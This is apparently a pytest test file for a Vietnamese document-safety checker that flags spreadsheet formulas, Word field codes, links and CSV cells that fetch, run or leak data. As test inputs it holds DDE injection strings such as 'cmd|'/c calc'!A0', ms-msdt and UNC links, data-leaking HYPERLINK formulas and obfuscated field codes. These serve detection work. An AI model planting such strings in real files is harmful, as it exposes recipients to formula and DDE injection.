"""Formulas, fields, links and cells that fetch or run, and their honest neighbours."""

import pytest

from nq57.gate.commands import (
    DDE,
    FETCHES,
    LOCAL_LINK,
    MAX_FORMULA,
    RUNS,
    cell_danger,
    field_danger,
    formula_danger,
    is_elsewhere,
    leads_astray,
    quoted_codes,
)
from nq57.gate.office_fields import MAX_CODE, MAX_OPEN, FieldListener

_ASTRAY = (
    "\\\\may\\a",
    "//may/a",
    "/\\may",
    "file:///c:/a",
    "c:\\a",
    "ms-msdt:/id",
    "search-ms:x",
    "vbscript:x",
)
_WELL = (
    "https://a.vn/b",
    "HTTP://a.vn",
    "mailto:a@b.vn",
    "tel:+84",
    "ftp://a.vn",
    "#muc",
    "a.docx",
    "",
    " ",
)


@pytest.mark.parametrize(
    "address", [*_ASTRAY, "java\tscript:x", "%5C%5Cmay", " \\\\may", "\u200bfile:x", "data:text/html,x"]
)
def test_a_link_may_lead_astray(address: str) -> None:
    """To another machine, to a file of this one, to a program; however it is written."""
    assert leads_astray(address)


@pytest.mark.parametrize("address", _WELL)
def test_a_link_may_lead_well(address: str) -> None:
    """To the web, to a letter or a telephone, to a place in the file, to a file beside it."""
    assert not leads_astray(address)


def test_what_is_fetched_comes_from_elsewhere() -> None:
    """Everything with a host or a scheme does, but for what is written in full."""
    assert all(map(is_elsewhere, (*_ASTRAY, "https://a.vn/", "ftp://a.vn")))
    assert not any(
        map(is_elsewhere, ("Pictures/a.png", "./Object 1", "data:image/png;base64,AA", "", "#a", "rId5"))
    )


@pytest.mark.parametrize(
    ("formula", "words"),
    [
        ('WEBSERVICE("x")', "hàm lấy dữ liệu từ nơi khác"),
        ("1+filterxml (A1,B1)", "hàm lấy dữ liệu từ nơi khác"),
        ("_xlfn._xlws.IMAGE(A1)", "hàm lấy dữ liệu từ nơi khác"),
        ("IF(A1,RTD(1),2)", "hàm lấy dữ liệu từ nơi khác"),
        ("ＷＥＢＳＥＲＶＩＣＥ(A1)", "hàm lấy dữ liệu từ nơi khác"),
        ("@CALL(1)", RUNS),
        ("REGISTER.ID(1)", RUNS),
        ("cmd|'/c calc'!A0", DDE),
        ("'a|b'|'c'!A0", DDE),
        ("''''" * 40 + "|", DDE),
        ('HYPERLINK("\\\\may\\a")', LOCAL_LINK),
        ('hyperlink( "ms-" & "msdt:x" , A1)', LOCAL_LINK),
        ('HYPERLINK(CONCATENATE("\\\\","may"),"x")', LOCAL_LINK),
        ('HYPERLINK(UNICHAR(92)&CHAR(92)&"may")', LOCAL_LINK),
        ('LET(x,"file:///c:/a",HYPERLINK(x))', LOCAL_LINK),
        ('HYPERLINK("http://a.vn/?x="&A1,"Xem")', "liên kết gửi dữ liệu trong ô ra ngoài"),
        ('HYPERLINK("http://a.vn/?(a,"&A1,"Xem")', "liên kết gửi dữ liệu trong ô ra ngoài"),
        ("'\\\\may\\[a.xlsx]S'!A1", "bảng tính lấy số liệu từ máy khác"),
        ("SUM('https://a.vn/[a.xlsx]S'!A1)", "bảng tính lấy số liệu từ máy khác"),
    ],
)
def test_a_formula_may_fetch_or_run(formula: str, words: str) -> None:
    """By its functions, by a topic of DDE, by the address of its link, by the book that it reads."""
    assert formula_danger(formula) == words


@pytest.mark.parametrize(
    "formula",
    [
        *(
            "SUM(A1:A3)",
            'A1&"|"&B1',
            "VLOOKUP(A1,'Quý 1|2'!A:B,2,0)",
            "RECALL(1)",
            "my.CALL(1)",
            'T("CALL(1)")',
        ),
        *(
            'HYPERLINK("https://a.vn/?a=1","Xem: biểu")',
            "HYPERLINK(A1)",
            'HYPERLINK("#S!A1","Bước: 2")',
            "[1]S!A1",
        ),
        *(
            'HYPERLINK("https://a.vn/"&A1)',
            'HYPERLINK(B2,"Hồ sơ: 12")',
            "CHAR(10)",
            "UNICHAR(9999999)",
            "",
            "'a'!B2",
        ),
    ],
)
def test_a_formula_may_only_reckon(formula: str) -> None:
    """Texts, names of sheets and links to the web are no orders."""
    assert formula_danger(formula) == ""


def test_of_a_formula_only_so_much_is_read_as_excel_takes() -> None:
    """A longer one is none."""
    assert formula_danger(" " * (MAX_FORMULA - 7) + "CALL(1)")
    assert not formula_danger(" " * (MAX_FORMULA - 4) + "CALL(1)")


@pytest.mark.parametrize(
    ("code", "words"),
    [
        *((code, DDE) for code in (" DDEAUTO c", "dde x", '"DDE" x', "\u00a0DDE x")),
        *(
            (f" {code} x", FETCHES)
            for code in ("LINK", "DATABASE", "IMPORT", "INCLUDE", "RD", "INCLUDEPICTURE")
        ),
        *((f" {code} x", RUNS) for code in ("MACROBUTTON", "PRINT", "CONTROL", "HTMLACTIVEX")),
        *(
            (f' HYPERLINK "{to}" \\o "x"', LOCAL_LINK)
            for to in ("ms-msdt:/id", "\\\\\\\\may\\\\a", "C:\\\\a")
        ),
        ('"HYPERLINK" javascript:x', LOCAL_LINK),
    ],
)
def test_a_field_may_fetch_or_run(code: str, words: str) -> None:
    """By its first word, or by the address of its link."""
    assert field_danger(code) == words


@pytest.mark.parametrize(
    "code",
    [
        "PAGE",
        " REF LINK \\h",
        "IF 1 = 1 DDE",
        'HYPERLINK \\l "DDE"',
        'HYPERLINK "https://a.vn" \\h',
        "",
        "= 1",
    ],
)
def test_a_field_may_only_show(code: str) -> None:
    """What stands behind the first word is no order."""
    assert field_danger(code) == ""


def test_letters_are_read_from_their_numbers() -> None:
    """In tens or sixteens; what is no such field has none, what is no letter is passed over."""
    assert quoted_codes(" QUOTE 68 0x44 1114112 69 ") == "DDE"
    assert quoted_codes("QUOTE x") is None


def _codes(*steps: str) -> list[str]:
    """The codes of fields: `{` begins one, `|` shows it, `}` ends it, `=x` is text, else code."""
    fields = FieldListener()
    for step in steps:
        if kind := {"{": "begin", "|": "separate", "}": "end"}.get(step):
            fields.mark(kind)
        elif step.startswith("="):
            fields.text(step[1:])
        else:
            fields.code(step)
    return list(fields.all_codes())


def test_a_field_is_put_together_from_its_pieces() -> None:
    """Code and result are kept apart; what was never ended, or never begun, counts too."""
    assert _codes("{", "DD", "E", "|", "=x", "}") == ["DDE"]
    assert _codes("{", "DDE", "=AUTO") == ["DDEAUTO"]
    assert _codes("DD", "E") == ["DDE"]
    assert _codes("}", "|", "=x") == []


def test_a_field_in_the_code_of_another_is_what_it_comes_to() -> None:
    """Letters by numbers, quoted words, a name that was set, or its result."""
    assert _codes("{", "{", "QUOTE 68 68", "}", "E x", "}") == ["QUOTE 68 68", "DDE x"]
    assert _codes("{", "{", ' QUOTE "DDE" ', "}", " x", "}")[1] == "DDE x"
    assert _codes("{", 'SET a "DDE" ', "}", "{", "{", " REF A ", "|", "=y", "}", "}")[2] == "DDE"
    assert _codes("{", "{", "SET a DDE", "}", "{", "a", "}", "}")[2] == "DDE"
    assert _codes("{", "{", "x", "|", "=DDE", "}", "}")[1] == "DDE"
    assert _codes("{", "IF", "|", "{", "x", "|", "=y", "}", "}")[1] == "IF"


def test_fields_are_bounded() -> None:
    """In how deep they nest and how long they grow."""
    assert len(_codes(*["{"] * (MAX_OPEN + 9))) == MAX_OPEN
    assert len(_codes("{", "x" * (MAX_CODE + 9), "}")[0]) == MAX_CODE


@pytest.mark.parametrize(
    ("cell", "words"),
    [
        *((cell, "ô bắt đầu bằng dấu =") for cell in ("=1", " =1", "\t=A1", "\n=1", "＝1", '="a"')),
        *((cell, "ô bắt đầu bằng dấu +") for cell in ("+A1", "+1+A1", '+"a"')),
        *((cell, "ô bắt đầu bằng dấu -") for cell in ("-A1", "-sum(A1)", "- sum(A1)", "-1+2", "- A!A1")),
        *((cell, "ô bắt đầu bằng dấu @") for cell in ("@a", "@1")),
        *((cell, "ô bắt đầu bằng dấu Tab") for cell in ("\ta", "\r1")),
        ("-2+cmd|' /C calc'!A0", DDE),
        ("- a|b", DDE),
    ],
)
def test_a_cell_may_be_an_order(cell: str, words: str) -> None:
    """By the sign that it begins with."""
    assert cell_danger(cell) == words


@pytest.mark.parametrize(
    "cell",
    [
        *(
            "-5",
            "+84 912 345 678",
            "-1.234.567,8",
            "- 5",
            "-5%",
            "+5°C",
            "-12,5 điểm",
            "+/- 5",
            "-20 – 30",
            "-5 km/h",
        ),
        *(
            "- Nam",
            "-Nam",
            "+ Nữ (người)",
            "- Tỷ lệ (%)",
            "-",
            "--",
            "===",
            "",
            "\t",
            "a=b",
            "(5)",
            "–5",
            "1-2",
        ),
        "- Số hộ (hộ) năm 2024, so với 2023",
    ],
)
def test_a_cell_may_be_a_number_or_a_bullet(cell: str) -> None:
    """Numbers below nought, telephones, ranges, and words behind a dash stay as they are."""
    assert cell_danger(cell) == ""
